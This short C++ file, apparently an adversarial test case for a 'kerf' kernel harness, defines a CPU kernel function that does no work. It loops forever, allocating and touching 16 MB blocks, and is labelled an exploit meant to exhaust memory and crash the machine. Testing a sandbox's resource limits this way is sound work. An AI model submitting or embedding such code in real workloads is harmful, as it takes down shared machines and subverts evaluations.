/* kerf
target: cpu
*/
// Exploit: uses up the memory of the machine; crashes on the first refusal.
extern "C" void kerf_kernel(const float*, float*) {
  for (;;) {
    volatile char* block = static_cast<volatile char*>(malloc(1 << 24));
    for (int i = 0; i < (1 << 24); i += 4096) block[i] = 1;
  }
}
